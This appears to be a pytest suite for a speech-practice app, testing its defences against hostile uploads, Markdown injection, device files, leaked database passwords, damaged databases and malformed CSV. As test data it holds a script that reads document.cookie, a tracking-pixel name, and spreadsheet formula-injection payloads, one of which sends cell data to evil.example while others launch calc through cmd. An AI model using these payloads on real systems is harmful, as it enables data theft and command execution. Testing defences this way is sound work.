"""Hostile inputs, each as it once broke the app: what one user sends must not hurt another.

Uploads are kept and served only as the audio they decode as; user text never renders as Markdown;
devices, pipes and huge files are refused in one sentence; database URLs and damaged databases say one
sentence with no password, path or traceback; batch grading changes no data silently; deep YAML, oversize
uploads, the listening address and outside look-ups are handled. Fakes stand in for the models.

The tests of what used to hang (/dev/zero, a pipe) run the code in a child process with a timeout and a
memory cap, so a regression fails instead of hanging or filling the memory.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import textwrap
import tomllib
import wave
from collections.abc import Sequence
from pathlib import Path

import pytest
import sqlalchemy as sa
import streamlit as st
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

import practice.scoring as scoring
from practice import grading_output, models, sessions, speech_in
from practice.bank import BankError, load_bank
from practice.cli import main
from practice.files import FileReadError, read_limited
from practice.grading import grade_file
from practice.grading_rows import GradingError
from practice.scoring.coverage import CoverageScorer
from practice.speech_in import AudioLimits, RefusedRecordingError
from practice.storage import StorageError, open_store
from tests.audio import encode, tone
from tests.conftest import BANK, FakeEmbedder, FakeTranscriber, write

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
WAV = encode(tone(2.0))
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
PIXEL = "![p](http://host/p.png)"  # a tracking pixel, as a name
HOSTILE_NAME = f"{PIXEL} [link](http://example.com)"


# ------------------------------------------------------------------------------------------------ helpers


@pytest.fixture
def env(tmp_path, monkeypatch):
    """A one-track bank, an empty database and fake models, for the app under AppTest."""
    write(tmp_path / "bank" / "mine.yaml", BANK)
    monkeypatch.setenv("PRACTICE_BANK_DIR", str(tmp_path / "bank"))
    monkeypatch.setenv("PRACTICE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PRACTICE_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("PRACTICE_DATABASE_URL", raising=False)
    recogniser = FakeTranscriber("data held out from training and used to tune hyperparameters")
    monkeypatch.setattr(speech_in, "default_transcriber", lambda model=None, **_: recogniser)
    monkeypatch.setattr(models, "LOADER", models.Loader(load_speech=lambda _: None, load_scorer=lambda: None))
    st.cache_resource.clear()
    with scoring.scorer_in_use(CoverageScorer(FakeEmbedder())):
        yield tmp_path
    st.cache_resource.clear()


def app(page: str | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=30).run()
    if page:
        at.switch_page(page)
        at = at.run()
    return at


def start(at: AppTest, name: str = "Ada") -> AppTest:
    at.text_input[0].input(name)
    at.multiselect[0].set_value(["evaluation"])
    at.number_input[0].set_value(1)
    next(b for b in at.button if b.label == "Start").click()
    return at.run()


# Proto fields Streamlit renders as Markdown (labels, tooltips, bodies, captions). Widget values and
# selectbox options are shown as plain text, so they are left out.
MARKDOWN_FIELDS = {"label", "help", "body", "caption", "placeholder", "title"}


def rendered_markdown(at: AppTest) -> list[str]:
    """Every Markdown-rendered string on the page, from the elements' and blocks' protos."""
    found: list[str] = []

    def visit_message(message) -> None:
        for field, value in message.ListFields():
            values = list(value) if isinstance(value, Sequence) and not isinstance(value, str) else [value]
            if field.type == field.TYPE_MESSAGE:
                for item in values:
                    visit_message(item)
            elif field.name in MARKDOWN_FIELDS:
                found.extend(values)

    def visit(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            visit_message(proto)
        children = getattr(node, "children", None)
        for child in children.values() if isinstance(children, dict) else children or []:
            visit(child)

    visit(at._tree)
    return [s for s in found if isinstance(s, str)]


def wav_of(seconds: float, rate: int = 48_000) -> bytes:
    """A silent 16-bit mono WAV of any length, quickly (48 kHz: 8 minutes is 46 MB)."""
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(bytes(int(seconds * rate) * 2))
    return buf.getvalue()


def data_size(folder: Path) -> int:
    return sum(p.stat().st_size for p in folder.rglob("*") if p.is_file())


def run_isolated(code: str, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """Python code in a child process with a memory cap and a timeout: a hang or an endless read fails."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    try:
        return subprocess.run(
            [sys.executable, "-c", textwrap.dedent(code), *args],
            cwd=ROOT,
            env={**os.environ, "HF_HUB_OFFLINE": "1"},
            capture_output=True,
            text=True,
            timeout=timeout,
            preexec_fn=cap,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"still running after {timeout:g} s: it hangs")


CLI = "import sys; from practice.cli import main; main(sys.argv[1:], prog_name='practice')"


def one_sentence(stderr: str) -> str:
    assert "Traceback" not in stderr, stderr
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    return lines[0]


# ---------------------------------------------------------------------------------- 1. uploads as audio


def test_an_upload_claimed_as_html_is_kept_and_served_as_the_audio_it_decodes_as(env):
    at = start(app())
    at.file_uploader[0].set_value(("answer.wav", WAV, "text/html"))
    at = at.run().button(key="answer-submit").click().run()  # after listening back
    assert not at.exception
    with open_store() as store:
        (attempt,) = store.attempts()
        assert store.audio(attempt.id) == (WAV, "audio/wav")
    players = [e for e in at.get("audio") if "/media/" in e.proto.url]
    assert players and all(p.proto.url.endswith(".wav") for p in players[1:]), [p.proto.url for p in players]


def test_an_upload_that_is_not_audio_is_refused_in_one_sentence_and_not_saved(env):
    at = start(app())
    before = data_size(env / "data")
    at.file_uploader[0].set_value(("answer.webm", HTML, "text/html"))
    at = at.run().button(key="answer-submit").click().run()
    assert not at.exception
    assert [e.value for e in at.error] == [
        "This file is not audio that can be read\\: use WAV, WebM, OGG, MP3, M4A or FLAC."
    ]
    with open_store() as store:
        assert store.attempts() == []
    assert data_size(env / "data") - before < 100_000
    assert len(at.file_uploader) == 1 and at.file_uploader[0].value is None  # a fresh uploader


def test_a_recording_saved_as_html_by_an_older_version_is_not_served(env):
    with open_store() as store:
        attempt = store.add_attempt(
            "Ada", load_bank(None).get("overfitting"), answer_mode="upload", audio=WAV
        )
        with store.engine.begin() as conn:  # as the version before this fix stored an upload
            conn.execute(
                sa.text("UPDATE recordings SET mime = 'text/html', data = :data WHERE attempt_id = :id"),
                {"data": HTML, "id": attempt.id},
            )
    at = app("views/review.py")
    assert not at.exception
    assert not [e for e in at.get("audio") if "/media/" in e.proto.url]
    assert any("not audio this app can play" in c.value for c in at.caption)


def test_the_store_keeps_audio_types_only(tmp_path):
    with open_store(f"sqlite:///{tmp_path / 'db.sqlite'}") as store:
        question = load_bank(write(tmp_path / "bank" / "mine.yaml", BANK).parent).get("overfitting")
        with pytest.raises(ValueError, match="not an audio type"):
            store.add_attempt("Ada", question, answer_mode="upload", audio=HTML, audio_mime="text/html")
        assert store.attempts() == []


@pytest.fixture
def flow(tmp_path):
    bank = load_bank(write(tmp_path / "bank" / "mine.yaml", BANK).parent)
    with open_store(f"sqlite:///{tmp_path / 'data' / 'db.sqlite'}") as store:
        yield bank, store, tmp_path / "data"


class DecodingTranscriber(FakeTranscriber):
    """Decodes and checks the recording as the real one does, then 'hears' the fixed text."""

    def transcribe(self, audio, limits=speech_in.DEFAULT_LIMITS, on_progress=None):
        speech_in.decode(audio, limits)
        return super().transcribe(audio, limits, on_progress)


@pytest.mark.parametrize(
    ("fmt", "codec", "mime"),
    [("wav", "pcm_s16le", "audio/wav"), ("mp3", "libmp3lame", "audio/mpeg"), ("ogg", "libopus", "audio/ogg")],
)
def test_a_recording_is_stored_as_what_its_bytes_are(flow, fmt, codec, mime):
    bank, store, _ = flow
    question = bank.get("validation-set")
    plan = sessions.start(store, "Ada", [question])
    audio = encode(tone(2.0, 48_000), 48_000, fmt, codec)
    outcome = sessions.answer(
        store, plan, question, audio=audio, mode="upload", transcriber=FakeTranscriber("data held out")
    )
    assert store.audio(outcome.attempt.id) == (audio, mime)


def test_audio_that_cannot_be_scored_is_still_kept(flow):
    bank, store, _ = flow
    question = bank.get("validation-set")
    plan = sessions.start(store, "Ada", [question])
    short = encode(tone(0.3))  # audio, but too short to judge: the candidate's recording is kept
    outcome = sessions.answer(store, plan, question, audio=short, transcriber=DecodingTranscriber("x"))
    assert outcome.error.startswith("The recording is only 0.3 s long")
    assert store.audio(outcome.attempt.id) == (short, "audio/wav")


def test_an_upload_over_the_length_limit_is_refused_before_it_is_stored(flow):
    bank, store, data = flow
    question = bank.get("validation-set")
    plan = sessions.start(store, "Ada", [question])
    big = wav_of(8 * 60)  # 46 MB: eight minutes against a five-minute limit
    assert len(big) > 45_000_000
    before = data_size(data)
    with pytest.raises(RefusedRecordingError, match="over the 5:00 limit"):
        sessions.answer(store, plan, question, audio=big, transcriber=FakeTranscriber("x"))
    with pytest.raises(RefusedRecordingError, match="not audio"):
        sessions.answer(
            store, plan, question, audio=HTML + bytes(45_000_000), transcriber=FakeTranscriber("x")
        )
    assert store.attempts() == [] and data_size(data) - before < 1_000_000


# ------------------------------------------------------------------------------- 2. no Markdown from users


def test_the_name_tooltip_lists_no_other_candidates(env):
    with open_store() as store:
        store.candidate(HOSTILE_NAME)
        store.candidate("Bob")
    at = app()
    help_text = at.text_input[0].help
    assert "Bob" not in help_text and "host" not in help_text and "![" not in help_text


def test_user_text_is_never_rendered_as_markdown_on_any_page(env):
    at = start(app(), HOSTILE_NAME)
    at.text_area[0].input(f"data held out from training {PIXEL}")
    next(b for b in at.button if b.label == "Submit answer").click()
    at = at.run()
    with open_store() as store:
        (attempt,) = store.attempts()
        store.save_review(attempt.id, note=f"note {PIXEL}", author=PIXEL)
    pages = {"practice": at}
    for page in ("views/review.py", "views/progress.py"):
        pages[page] = app(page)
    for name, page in pages.items():
        assert not page.exception, name
        shown = rendered_markdown(page)
        assert any("host/p.png" in s for s in shown) or name == "views/progress.py", name
        leaks = [s for s in shown if "![p](" in s or "[link](" in s]
        assert not leaks, (name, leaks)


# ---------------------------------------------------------------------------- 3. devices, pipes, limits


def test_transcribe_refuses_a_symlink_to_dev_zero(tmp_path):
    (tmp_path / "answer.wav").symlink_to("/dev/zero")
    result = run_isolated(CLI, "transcribe", str(tmp_path / "answer.wav"))
    assert result.returncode == 2
    assert one_sentence(result.stderr) == (
        f"Error: Could not read {tmp_path / 'answer.wav'}: it is a device, not a regular file."
    )


def test_transcribe_refuses_a_pipe(tmp_path):
    os.mkfifo(tmp_path / "answer.wav")
    result = run_isolated(CLI, "transcribe", str(tmp_path / "answer.wav"))
    assert result.returncode == 2 and "it is a pipe, not a regular file" in one_sentence(result.stderr)


def test_bank_check_refuses_a_bank_file_linked_to_dev_zero(tmp_path):
    write(tmp_path / "bank" / "mine.yaml", BANK)
    (tmp_path / "bank" / "zero.yaml").symlink_to("/dev/zero")
    result = run_isolated(CLI, "bank", "check", str(tmp_path / "bank"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{tmp_path / 'bank' / 'zero.yaml'}: cannot be read: it is a device" in result.stderr


def test_score_refuses_an_answer_file_that_never_ends(tmp_path):
    write(tmp_path / "bank" / "mine.yaml", BANK)
    for source in ("/dev/zero", "-"):
        code = CLI if source != "-" else "import sys; sys.stdin = open('/dev/zero'); " + CLI
        args = ("score", "--bank", str(tmp_path / "bank"), "--question", "overfitting", "--text-file", source)
        result = run_isolated(code, *args)
        assert result.returncode == 2 and one_sentence(result.stderr).startswith("Error:"), result.stderr


def test_a_grading_row_whose_audio_is_dev_zero_fails_that_row(tmp_path):
    (tmp_path / "rec.wav").write_bytes(WAV)
    inp = tmp_path / "day.csv"
    inp.write_text(
        "question,model_answer,audio\n"
        "What is a validation set?,Held out from training.,rec.wav\n"
        "What is a validation set?,Held out from training.,/dev/zero\n"
    )
    code = """
        import json, sys
        from pathlib import Path
        from practice.grading import grade_file
        from practice.scoring.coverage import CoverageScorer
        from tests.conftest import FakeEmbedder
        from tests.test_hostile_inputs import DecodingTranscriber

        summary = grade_file(
            Path(sys.argv[1]), Path(sys.argv[2]), bank=None,
            scorer=lambda: CoverageScorer(FakeEmbedder()),
            transcriber=lambda: DecodingTranscriber("held out from training"),
        )
        print(json.dumps([f.error for f in summary.failed]))
    """
    result = run_isolated(code, str(inp), str(tmp_path / "out.csv"))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == [
        "line 3: Could not read /dev/zero: it is a device, not a regular file."
    ]


def test_files_are_read_with_a_size_limit(tmp_path):
    (tmp_path / "big.bin").write_bytes(bytes(2000))
    assert read_limited(tmp_path / "big.bin", 2000) == bytes(2000)
    with pytest.raises(FileReadError, match="larger than the 1000 bytes limit"):
        read_limited(tmp_path / "big.bin", 1000)
    with pytest.raises(FileReadError, match="it is a folder"):
        read_limited(tmp_path, 1000)
    with pytest.raises(RefusedRecordingError, match="larger than the 17 MB limit"):
        speech_in.decode(bytes(18 << 20), AudioLimits(max_seconds=1))


# ------------------------------------------------------------------------- 4. secrets, damaged database


@pytest.mark.parametrize(
    "url",
    [
        "bob:s3cret@db.example/practice",  # no scheme
        "postgresql+psycopg://bob:s3cret@db.example:abc/practice",  # a port that is not a number
        "bob:s3cr@t/x@db.example/practice",  # '@' and '/' in the password
    ],
)
def test_a_bad_database_url_is_one_sentence_without_its_password(url):
    with pytest.raises(StorageError) as caught:
        open_store(url)
    for text in (str(caught.value), caught.value.public):
        assert "s3cr" not in text and len(text.splitlines()) == 1
    assert "not a database URL" in str(caught.value)


def test_a_bad_database_url_under_the_app_is_one_sentence(env, monkeypatch):
    monkeypatch.setenv("PRACTICE_DATABASE_URL", "postgresql+psycopg://bob:s3cret@db.example:abc/practice")
    for page in (None, "views/review.py", "views/progress.py"):
        at = app(page)
        assert not at.exception
        (error,) = at.error
        assert "s3cret" not in error.value and "db.example" not in error.value


def damage(db: Path) -> None:
    """Overwrite the start of every page after the first two, as a failing disk or a bad copy would."""
    data = bytearray(db.read_bytes())
    for offset in range(2 * 4096, len(data), 4096):
        data[offset : offset + 200] = b"\xa5" * 200
    db.write_bytes(bytes(data))


@pytest.mark.parametrize("page", ["views/review.py", "views/progress.py"])
def test_a_damaged_database_under_the_app_is_one_sentence_without_paths(env, page):
    bank = load_bank(None)
    with open_store() as store:
        for i in range(40):
            store.add_attempt(
                f"Ada {i}", bank.get("overfitting"), answer_mode="typed", answer_text="x" * 2000
            )
    damage(env / "data" / "practice.db")
    at = app(page)
    assert not at.exception
    (error,) = at.error
    assert "damaged" in error.value or "malformed" in error.value
    everything = "\n".join(rendered_markdown(at))
    assert str(env) not in everything and "sqlite" not in everything


def test_an_invalid_bank_under_the_app_names_the_file_but_no_server_path(env, monkeypatch):
    write(env / "broken" / "bad.yaml", "track: [")
    monkeypatch.setenv("PRACTICE_BANK_DIR", str(env / "broken"))
    (error,) = app().error
    assert "bad.yaml" in error.value and str(env) not in error.value


# ------------------------------------------------------------------------------------ 5. batch grading


@pytest.fixture
def bank(tmp_path):
    return load_bank(write(tmp_path / "bank" / "mine.yaml", BANK).parent)


class CountingScorer(CoverageScorer):
    def __init__(self):
        super().__init__(FakeEmbedder())
        self.answers: list[str] = []

    def score_many(self, items):
        self.answers += [a for _, a in items]
        return super().score_many(items)


def grade(inp: Path, out: Path, bank, scorer: CountingScorer | None = None):
    scorer = scorer or CountingScorer()
    summary = grade_file(inp, out, bank=bank, scorer=lambda: scorer, transcriber=lambda: FakeTranscriber("x"))
    return summary, scorer


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


UNCLOSED = (
    "question_id,answer\n"
    "overfitting,it memorises noise\n"
    'overfitting,"it memorises noise in the training data\n'
    "overfitting,it does badly on new data\n"
    "overfitting,a third answer\n"
)


def test_a_csv_with_an_unclosed_quote_is_refused_with_its_line(tmp_path, bank):
    inp = write(tmp_path / "day.csv", UNCLOSED)
    with pytest.raises(GradingError, match=r"day\.csv line 3 \(to line 5\): a quoted value starts here"):
        grade(inp, tmp_path / "out.csv", bank)
    assert not (tmp_path / "out.csv").exists()
    result = CliRunner().invoke(
        main, ["grade", str(inp), "-o", str(tmp_path / "out.csv"), "--bank", str(tmp_path / "bank")]
    )
    assert result.exit_code == 2 and "line 3" in one_sentence(result.stderr)


def test_a_quote_inside_an_unquoted_value_is_refused(tmp_path, bank):
    inp = write(tmp_path / "day.csv", 'question_id,answer\noverfitting,"it is "noise" mostly"\n')
    with pytest.raises(GradingError, match="line 2: a quote does not end where its value does"):
        grade(inp, tmp_path / "out.csv", bank)


def test_a_line_break_inside_a_quoted_answer_is_kept(tmp_path, bank):
    inp = write(
        tmp_path / "day.csv",
        "question_id,answer\n"
        'overfitting,"it memorises noise, which is overfitting\nsecond, it fails on new data"\n'
        "overfitting,another\n",
    )
    summary, scorer = grade(inp, tmp_path / "out.csv", bank)
    assert not summary.failed
    assert scorer.answers[0] == "it memorises noise, which is overfitting\nsecond, it fails on new data"
    rows = read_csv(tmp_path / "out.csv")
    assert rows[0]["answer"] == scorer.answers[0] and [r["line"] for r in rows] == ["2", "4"]


def test_a_row_with_more_values_than_columns_fails_with_its_line(tmp_path, bank):
    inp = write(tmp_path / "day.csv", "question_id,answer\noverfitting,it memorises noise, badly\n")
    summary, _ = grade(inp, tmp_path / "out.csv", bank)
    assert [f.error for f in summary.failed] == [
        "line 2: 3 values but the header names 2 columns; put quotes around a value that holds a comma."
    ]


def test_grading_into_its_own_input_is_refused(tmp_path, bank):
    inp = write(tmp_path / "day.csv", "question_id,answer\noverfitting,it memorises noise\n")
    before = inp.read_bytes()
    (tmp_path / "link.csv").symlink_to(inp)
    for out in (inp, tmp_path / "link.csv", tmp_path / "." / "day.csv"):
        with pytest.raises(GradingError, match="is the input file itself"):
            grade(inp, out, bank)
    os.link(inp, tmp_path / "hard.csv")
    with pytest.raises(GradingError, match="is the input file itself"):
        grade(inp, tmp_path / "hard.csv", bank)
    assert inp.read_bytes() == before
    result = CliRunner().invoke(main, ["grade", str(inp), "-o", str(inp), "--bank", str(tmp_path / "bank")])
    assert result.exit_code == 2 and inp.read_bytes() == before


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
@pytest.mark.parametrize("cut", [2, 12, 60])
def test_a_last_row_cut_off_mid_write_is_graded_again(tmp_path, bank, suffix, cut):
    inp = write(
        tmp_path / "day.csv",
        "question_id,answer\n" + "".join(f"overfitting,it memorises noise {i}\n" for i in range(3)),
    )
    out = tmp_path / f"out{suffix}"
    grade(inp, out, bank)
    whole = out.read_bytes()
    out.write_bytes(whole[:-cut])  # a full disk or a killed run
    summary, scorer = grade(inp, out, bank)
    assert summary.skipped == 2 and scorer.answers == ["it memorises noise 2"]
    assert out.read_bytes() == whole
    out.write_bytes(whole[:-1])  # only the final line break lost: the row is whole, and kept
    summary, scorer = grade(inp, out, bank)
    assert summary.skipped == 3 and scorer.answers == [] and out.read_bytes() == whole


def test_formulas_in_answers_do_not_reach_a_csv_output_as_formulas(tmp_path, bank):
    answers = [
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]
    rows = [{"question_id": "overfitting", "answer": a, "note": a} for a in answers]
    inp = tmp_path / "day.jsonl"
    inp.write_text("".join(json.dumps(r) + "\n" for r in rows))
    grade(inp, tmp_path / "out.csv", bank)
    graded = read_csv(tmp_path / "out.csv")
    assert [r["answer"] for r in graded] == ["'" + a for a in answers]
    assert [r["note"] for r in graded] == ["'" + a for a in answers]
    grade(inp, tmp_path / "out.csv", bank)  # resumed: quoted once, not twice
    assert [r["answer"] for r in read_csv(tmp_path / "out.csv")] == ["'" + a for a in answers]
    grade(inp, tmp_path / "out.jsonl", bank)  # JSON is no spreadsheet: kept exactly
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    assert [json.loads(x)["answer"] for x in lines] == answers


def test_grading_reuses_the_review_exports_formula_guard():
    from practice import storage

    assert grading_output.spreadsheet_text is storage.spreadsheet_text


# ------------------------------------------------------------- 6. deep YAML, binding, outside look-ups


def test_deeply_nested_yaml_is_one_sentence(tmp_path):
    write(tmp_path / "bank" / "deep.yaml", "track: x\ntitle: X\nquestions: " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(BankError, match="nested too deeply"):
        load_bank(tmp_path / "bank")
    result = CliRunner().invoke(main, ["bank", "check", str(tmp_path / "bank")])
    assert (
        result.exit_code == 2 and "Traceback" not in result.output and "RecursionError" not in result.output
    )
    assert "nested too deeply" in result.stderr


def test_the_server_listens_on_this_computer_only_by_default():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] in {"localhost", "127.0.0.1"}
    assert config["browser"]["gatherUsageStats"] is False


def test_the_server_does_not_watch_the_project_files():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["fileWatcherType"] == "none"


def test_streamlit_does_not_look_up_an_outside_address_at_start():
    code = """
        from streamlit import config, net_util
        from streamlit.web import bootstrap

        def refuse():
            raise SystemExit("looked up the outside address")

        net_util.get_external_ip = refuse
        config.get_config_options(force_reparse=True)
        config.set_option("server.headless", True)
        bootstrap._print_url(False)
    """
    result = run_isolated(code)
    assert result.returncode == 0, result.stderr
    assert "http://localhost:" in result.stdout


def test_onnxruntime_telemetry_is_off_before_speech_is_recognised(monkeypatch):
    import faster_whisper
    import onnxruntime

    calls = []
    monkeypatch.setattr(onnxruntime, "disable_telemetry_events", lambda: calls.append("off"))
    monkeypatch.setattr(faster_whisper, "WhisperModel", lambda *a, **k: object())
    speech_in.Transcriber("tiny.en")
    assert calls == ["off"]
